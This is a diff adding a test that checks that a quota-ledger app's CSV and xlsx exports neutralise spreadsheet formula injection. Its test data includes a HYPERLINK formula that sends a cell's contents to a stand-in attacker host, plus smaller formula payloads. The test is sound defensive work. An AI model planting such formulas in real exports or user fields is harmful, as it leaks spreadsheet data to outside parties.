@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 
@@ -63,3 +64,45 @@ def test_filters_and_bad_requests(ledger: Store, tmp_path: Path) -> None:
         with pytest.raises(BadInput):
             write_export(out / "x", what=what, fmt=fmt, store=ledger)
     assert list(out.iterdir()) == []
+
+
+def test_text_is_never_a_formula(store: Store) -> None:
+    """Reasons, names, project codes and keys starting with = + - @ stay plain text."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"附件")'
+    quota.grant(year=Y, kind="land", county="371502", amount="100", user=CITY,
+                reason="@SUM(A1:A9)", key="=1+1", store=store, county_name="=东昌府区", at=T0)
+    quota.grant(year=Y, kind="land", county="371521", amount="100", user=CITY, reason="下达",
+                key="g2", store=store, at=T0)
+    quota.allocate(year=Y, kind="land", county="371502", project="-2+3", amount="1",
+                   user=DCF, reason=evil, key="+a", store=store, at=T0)
+    quota.adjust(year=Y, kind="land", seller="371502", buyer="371521", amount="5",
+                 price="100", user=CITY, reason="\t=1+1", key="adj", store=store, at=T0)
+    # CSV: dangerous text gets a leading ', numbers (even negative ones) stay as they are.
+    text = export(what="movements", fmt="csv", store=store).decode("utf-8-sig")
+    moves = list(csv.DictReader(io.StringIO(text)))
+    allocation = next(m for m in moves if m["操作"] == "配置")
+    assert (allocation["事由"], allocation["幂等键"], allocation["调出账户"],
+            allocation["调入账户"], allocation["数量"]) == (
+        "'" + evil, "'+a", "'=东昌府区 县级储备", "'-2+3 项目配置", "1")
+    assert moves[0]["事由"] == "'@SUM(A1:A9)" and moves[0]["幂等键"] == "'=1+1"
+    assert moves[-1]["事由"] == "'\t=1+1"
+    text = export(what="balances", fmt="csv", store=store).decode("utf-8-sig")
+    rows = {r["县区代码"] + r["项目"]: r for r in csv.DictReader(io.StringIO(text))
+            if r["账户类型"] in ("县级储备", "项目配置")}
+    assert rows["371502"]["有偿调剂"] == "-5" and rows["371502"]["账户"] == "'=东昌府区 县级储备"
+    assert rows["371502'-2+3"]["项目"] == "'-2+3"
+    # xlsx: every text cell is a string cell with its text unchanged; no formula anywhere.
+    for what in ("movements", "balances"):
+        data = export(what=what, fmt="xlsx", store=store)
+        with zipfile.ZipFile(io.BytesIO(data)) as book:
+            assert all("<f>" not in book.read(n).decode() and "<f " not in book.read(n).decode()
+                       for n in book.namelist() if n.startswith("xl/worksheets/"))
+        cells = [c for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r]
+        assert not [c for c in cells if c.data_type == "f"]
+        values = {c.value for c in cells}
+        if what == "movements":
+            assert {evil, "+a", "-2+3 项目配置", "\t=1+1", "@SUM(A1:A9)"} <= values
+        else:
+            adjusted = [c for c in cells if c.value == -5]
+            assert adjusted and all(c.data_type == "n" for c in adjusted)
+            assert {"=东昌府区 县级储备", "-2+3"} <= values
